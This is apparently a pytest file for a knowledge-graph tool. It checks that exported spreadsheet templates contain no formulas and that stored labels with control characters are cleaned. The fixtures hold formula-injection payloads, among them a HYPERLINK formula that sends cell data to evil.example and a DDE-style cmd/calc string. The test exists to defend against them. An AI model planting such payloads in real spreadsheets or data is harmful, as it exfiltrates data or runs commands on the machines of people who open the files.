"""Every cell kg writes into a spreadsheet is a value, never a formula (issue 20, item 5),
and odd characters in stored labels do not break the template (item 6). The template is
read back with openpyxl and as raw sheet XML: no <f> element anywhere."""
from __future__ import annotations

import re
import zipfile

import openpyxl

EVIL = '=HYPERLINK("http://evil.example/?q="&A1,"Klikk her")'
TTL = f"""@prefix kg: <https://w3id.org/kommune-ki/ont#> .
@prefix kgid: <https://w3id.org/kommune-ki/id/> .
@prefix skos: <http://www.w3.org/2004/02/skos/core#> .
kgid:ondsinnet a kg:Municipality ; kg:organisationNumber "0000" ; skos:prefLabel {EVIL!r}@nb , {EVIL!r}@en .
kgid:utfordring-x a kg:Challenge ; skos:prefLabel "+SUM(1+1)*cmd|' /C calc'!A0"@nb , "@SUM(1)"@en .
"""
# already stored (written past the import's cleaning): the template must still be made
ODD = ('<https://w3id.org/kommune-ki/id/bjelle> <http://www.w3.org/1999/02/22-rdf-syntax-ns#type> '
       '<https://w3id.org/kommune-ki/ont#Municipality> .\n<https://w3id.org/kommune-ki/id/bjelle> '
       '<https://w3id.org/kommune-ki/ont#organisationNumber> "0001" .\n<https://w3id.org/kommune-ki/id/bjelle> '
       '<http://www.w3.org/2004/02/skos/core#prefLabel> "Bjelle\\u0007tegn\\u0000 og \\uFFFE ikke-tegn"@nb .\n')


def _formulas(path) -> list[str]:
    with zipfile.ZipFile(path) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and re.search(rb"<f[ >]", z.read(n))]


def test_template_cells_are_values(hostile_ws, tmp_path, cli_run):
    f = tmp_path / "ondsinnet.ttl"
    f.write_text(TTL, encoding="utf-8")
    res = cli_run(["--data", hostile_ws, "--lang", "en", "import", f])
    assert res.exit_code in (0, 1), res.stdout + res.stderr
    import pyoxigraph as ox
    from kg.store.workspace import Workspace
    with Workspace.open(hostile_ws, write=True) as ws:
        ws.replace_source("odd", ox.parse(ODD.encode(), format=ox.RdfFormat.N_TRIPLES))
    for lang in ("nb", "en"):
        out = tmp_path / f"mal-{lang}.xlsx"
        res = cli_run(["--data", hostile_ws, "--lang", lang, "import", "template", "-o", out])
        assert res.exit_code == 0, res.stderr
        assert _formulas(out) == []
        wb = openpyxl.load_workbook(out)
        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        texts = {str(c.value) for c in cells}
        assert EVIL in texts                       # the label is there, as text
        assert any(t.startswith("Bjelle") for t in texts)     # the odd label is kept, cleaned
        assert not any(ch in t for t in texts for ch in ("\x07", "\x00", "\ufffe"))
